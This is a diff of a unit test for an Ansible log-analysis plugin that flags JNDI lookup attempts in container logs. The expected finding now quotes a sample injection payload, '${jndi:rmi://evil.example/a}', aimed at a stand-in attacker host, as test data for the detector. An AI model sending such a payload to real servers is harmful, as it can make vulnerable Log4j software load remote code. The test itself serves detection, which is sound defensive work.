@@ -10,6 +10,7 @@ from pathlib import Path
 
 import pytest
 
+from ansible_collections.cordon.docker.plugins.plugin_utils._analysis import jndi
 from ansible_collections.cordon.docker.tests.unit.plugins.plugin_utils._analysis.build_case import (
     connection,
     file,
@@ -28,15 +29,15 @@ def test_a_lookup_alone_is_an_attempt(tmp_path: Path) -> None:
     found = findings_of(tmp_path, {"logs/hits.jsonl": lines[1:2], "logs/tail.jsonl": lines})
     assert grades(found) == {"jndi-lookup": "medium"}
     assert found[0].sentence == (
-        "The log has 2 lines with a JNDI lookup, 1 of them disguised, for answers from 10.6.6.6 and evil.example:"
-        " an attempt, unless other signs show that it worked."
+        "The log has 2 lines with a JNDI lookup, 1 of them disguised, such as `${jndi:rmi://evil.example/a}`,"
+        " for answers from 10.6.6.6 and evil.example: an attempt, unless other signs show that it worked."
     )
     assert [(ref.path.rpartition("/")[2], ref.line) for ref in found[0].evidence] == [
         ("hits.jsonl", 1),
         ("tail.jsonl", 3),
     ]
     assert found[0].technique == "T1190"
-    assert found[0].next.endswith("'containers=shop keyword=jndi'")
+    assert found[0].next.endswith(f"'containers=shop regex={jndi.SEARCH} ignore_case=true'")
 
 
 def test_a_connection_to_the_server_of_the_lookup_shows_that_it_worked(tmp_path: Path) -> None:
